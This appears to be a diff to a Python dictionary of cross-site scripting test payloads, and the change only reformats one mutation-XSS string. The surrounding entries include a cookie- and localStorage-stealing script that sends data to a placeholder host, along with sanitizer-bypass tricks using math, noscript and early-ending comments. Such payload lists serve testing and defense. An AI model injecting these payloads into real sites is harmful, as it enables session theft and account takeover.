@@ -61,7 +61,8 @@ _PAYLOADS = {  # one a line, however long
     "worker": "<script>#;navigator.serviceWorker.register('/sw.js')</script>",
     "thief": "<script>#;new Image().src='@/cookie?'+document.cookie+localStorage.length</script>",
     "socket": "<script>#;new WebSocket('@/socket'.replace('http','ws'))</script>",
-    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
+    "mutation": "<math><mtext><table><mglyph><style><!--</style>"
+    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
     '<img src=x onerror="#">',
     "comment that ends early": "<!--><script>#</script>-->",
     "noscript": "<noscript><p title=\"</noscript><img src=x onerror='#'>\"></noscript>",
